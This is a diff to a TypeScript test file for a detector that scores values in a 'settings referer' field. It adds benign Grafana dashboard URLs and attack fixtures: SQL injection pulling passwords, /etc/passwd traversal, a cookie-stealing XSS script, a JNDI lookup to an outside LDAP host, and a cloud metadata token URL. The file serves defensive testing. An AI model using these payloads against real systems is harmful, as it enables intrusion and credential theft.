@@ -78,6 +78,9 @@ const BENIGN: [string, string][] = [
   ['forge job', 'php8.3 /home/forge/shop.example.com/artisan queue:work --stop-when-empty'],
   ['service proxy path', '/api/v1/namespaces/monitoring/services/grafana/proxy/api/health'],
   ['settings referer', 'https://admin.example.com/settings/network'],
+  // A dashboard on another named host as the Referer of its data-source query (referer-origin.ts namedHostRefererParts).
+  ['settings referer', 'https://grafana.internal/d/bYjhjyxaf/rabbitmq?orgId=1&var-namespace=istio-system'],
+  ['settings referer', 'https://grafana.example.io/d/1c1ttUv2r/keycloak?orgId=1&var-namespace=observability&from=now-6h&to=now'],
 ];
 
 const ATTACKS: [string, string][] = [
@@ -135,6 +138,12 @@ const ATTACKS: [string, string][] = [
   ['settings referer', 'http://10.0.4.12:8080/"><script>alert(document.cookie)</script>'],
   ['settings referer', 'http://10.0.4.12:8080/files?path=../../../../etc/passwd'],
   ['settings referer', 'http://10.0.4.12:8080/search?q=${jndi:ldap://203.0.113.9:1389/a}'],
+  // Another named host's page as the Referer: its path and every value are scored.
+  ['settings referer', "https://grafana.internal/d/x/y?orgId=1' UNION SELECT password FROM users--"],
+  ['settings referer', 'https://grafana.internal/etc/passwd'],
+  ['settings referer', 'https://grafana.internal/d/x?var-ns=<script>alert(document.cookie)</script>'],
+  ['settings referer', 'https://grafana.internal/d/x?var-ns=${jndi:ldap://203.0.113.9:1389/a}'],
+  ['settings referer', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'],
 ];
 
 testCarriers('admin saves (issue 14 families)', 'passes the values these families carry', CARRIERS, BENIGN, ATTACKS);
